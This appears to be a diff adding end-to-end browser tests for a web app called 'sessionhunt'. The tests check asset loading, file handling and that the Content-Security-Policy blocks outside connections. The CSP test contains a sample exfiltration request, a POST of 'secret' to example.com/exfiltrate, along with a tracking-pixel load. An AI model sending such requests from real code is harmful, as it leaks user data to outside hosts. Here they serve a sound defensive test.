@@ -1,0 +1,85 @@
+// End-to-end tests of the built app (dist/) in Debian's Chromium.
+import { test, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import { serve, launch, openPage, screenshot, foreignRequests } from './harness.mjs';
+
+let server;
+let browser;
+
+before(async () => {
+  server = await serve();
+  browser = await launch();
+});
+
+after(async () => {
+  await browser?.close();
+  await server?.close();
+});
+
+test('the page loads, renders the app, and requests only its own assets', async () => {
+  const { context, page, requests, errors } = await openPage(browser);
+  await page.goto(server.url);
+  await page.getByRole('heading', { name: 'sessionhunt' }).waitFor();
+  await page.getByTestId('demo-button').waitFor();
+  // The worker announces itself once its wasm is loaded and it listens.
+  await page.locator('.app[data-worker="ready"]').waitFor();
+  await page.waitForLoadState('networkidle');
+  assert.equal(await page.getByTestId('demo-button').isEnabled(), true);
+  await screenshot(page, 'home');
+
+  assert.deepEqual(errors, [], 'no console errors');
+  assert.deepEqual(foreignRequests(requests, server.origin), [], 'no request leaves 127.0.0.1');
+  for (const asset of ['index.html', 'boot.js', 'app.js', 'app_bg.wasm', 'style.css', 'worker.js', 'worker_bg.wasm']) {
+    const wanted = asset === 'index.html' ? server.url : `${server.url}${asset}`;
+    assert.ok(requests.includes(wanted), `requested ${asset}; got ${requests.join(', ')}`);
+  }
+  await context.close();
+});
+
+test('the Content-Security-Policy blocks connections to other origins', async () => {
+  const { context, page, requests, failures } = await openPage(browser);
+  await page.goto(server.url);
+  await page.getByRole('heading', { name: 'sessionhunt' }).waitFor();
+  const outcome = await page.evaluate(async () => {
+    const violations = [];
+    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
+    let fetched;
+    try {
+      await fetch('https://example.com/exfiltrate', { method: 'POST', body: 'secret' });
+      fetched = 'sent';
+    } catch (err) {
+      fetched = `blocked: ${err.name}`;
+    }
+    const img = new Image();
+    const imgLoaded = await new Promise((ok) => { img.onload = () => ok(true); img.onerror = () => ok(false); img.src = 'https://example.com/pixel.png'; });
+    await new Promise((ok) => setTimeout(ok, 50));
+    return { fetched, imgLoaded, violations };
+  });
+  assert.equal(outcome.fetched, 'blocked: TypeError');
+  assert.equal(outcome.imgLoaded, false);
+  assert.ok(outcome.violations.includes('connect-src'), `violations: ${outcome.violations}`);
+  assert.ok(outcome.violations.includes('img-src'), `violations: ${outcome.violations}`);
+  // Chromium reports the attempts, and fails them before they reach the network.
+  for (const url of foreignRequests(requests, server.origin)) {
+    const failure = failures.find((f) => f.url === url);
+    assert.match(failure?.error ?? 'not failed', /^(csp|net::ERR_BLOCKED_BY_CSP)$/, `${url} was blocked by the CSP`);
+  }
+  await context.close();
+});
+
+test('a chosen file is read by the worker and accounted for in the report', async () => {
+  const { context, page, requests, errors } = await openPage(browser);
+  await page.goto(server.url);
+  await page.locator('.app[data-worker="ready"]').waitFor();
+  const body = 'not an export, just text\nsecond line\n';
+  await page.getByTestId('file-input').setInputFiles({ name: 'notes.txt', mimeType: 'text/plain', buffer: Buffer.from(body) });
+  const row = page.getByTestId('inputs').locator('tbody tr').first();
+  await row.waitFor();
+  const cells = await row.locator('td').allTextContents();
+  assert.equal(cells[0], 'notes.txt');
+  assert.equal(cells[2], `${Buffer.byteLength(body)} B`);
+  await screenshot(page, 'file-loaded');
+  assert.deepEqual(errors, []);
+  assert.deepEqual(foreignRequests(requests, server.origin), []);
+  await context.close();
+});
